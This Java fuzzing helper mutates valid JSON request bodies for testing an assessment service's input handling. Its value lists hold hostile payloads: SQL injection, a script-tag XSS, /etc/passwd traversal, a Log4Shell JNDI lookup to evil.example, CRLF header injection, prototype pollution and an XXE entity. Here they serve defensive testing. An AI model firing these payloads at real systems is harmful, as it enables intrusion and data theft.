package uz.inson.assess.support;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Malformed and hostile variants of a valid JSON body, reproducible from the caller's seeded Random. */
public final class JsonFuzz {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final JsonNode[] ODD_VALUES = {
            NODES.nullNode(), NODES.textNode(""), NODES.textNode("' OR 1=1 --"), NODES.textNode("'; DROP TABLE assessment; --"),
            NODES.numberNode(-1), NODES.numberNode(1e308), NODES.numberNode(Long.MAX_VALUE), NODES.booleanNode(true),
            NODES.arrayNode(), NODES.objectNode(), NODES.textNode("9999-99-99"), NODES.textNode("\u0000\uFFFF"),
            NODES.numberNode(0.5), NODES.textNode("<script>alert(1)</script>"), NODES.textNode("../../../../etc/passwd"),
            NODES.textNode("${jndi:ldap://evil.example/a}"), NODES.textNode("x".repeat(20_000)), NODES.textNode("%00%0d%0aSet-Cookie: a=b")};
    /** Whole bodies no valid request looks like. */
    private static final String[] ODD_BODIES = {"", "null", "[]", "\"text\"", "42", "{", "}", "{\"a\":", "{\"a\" 1}", "{'single': 'quotes'}",
            "[".repeat(5_000) + "]".repeat(5_000), "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000), "\uFEFF{}", "{\"a\":1,\"a\":2}",
            "{\"__proto__\": {\"admin\": true}}", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"};

    private JsonFuzz() {
    }

    /** A variant of {@code valid}: one to three values removed, retyped or added, sometimes cut short, sometimes a wholly odd body. */
    public static String variant(String valid, Random random) {
        if (random.nextInt(10) == 0) {
            return ODD_BODIES[random.nextInt(ODD_BODIES.length)];
        }
        try {
            JsonNode mutated = JSON.readTree(valid);
            int mutations = 1 + random.nextInt(3);
            for (int m = 0; m < mutations; m++) {
                mutate(mutated, random);
            }
            String text = JSON.writeValueAsString(mutated);
            return random.nextInt(8) == 0 ? text.substring(0, random.nextInt(text.length())) : text;
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException("the valid body is not JSON", e);
        }
    }

    /** Replaces, removes or retypes one value somewhere in the tree. */
    private static void mutate(JsonNode root, Random random) {
        List<JsonNode> containers = new ArrayList<>();
        collect(root, containers);
        JsonNode container = containers.get(random.nextInt(containers.size()));
        if (container instanceof ObjectNode object && object.size() > 0) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            String name = names.get(random.nextInt(names.size()));
            switch (random.nextInt(3)) {
                case 0 -> object.remove(name);
                case 1 -> object.set(name, odd(random));
                default -> object.put(name + "X", "unexpected");
            }
        } else if (container instanceof ArrayNode array) {
            if (array.size() > 0 && random.nextBoolean()) {
                array.set(random.nextInt(array.size()), odd(random));
            } else {
                array.add(odd(random));
            }
        } else if (container instanceof ObjectNode object) {
            object.set("unexpected", odd(random));
        }
    }

    /** A fresh copy: the shared containers must never be mutated in place. */
    private static JsonNode odd(Random random) {
        return ODD_VALUES[random.nextInt(ODD_VALUES.length)].deepCopy();
    }

    private static void collect(JsonNode node, List<JsonNode> containers) {
        if (node.isContainerNode()) {
            containers.add(node);
            node.forEach(child -> collect(child, containers));
        }
    }
}
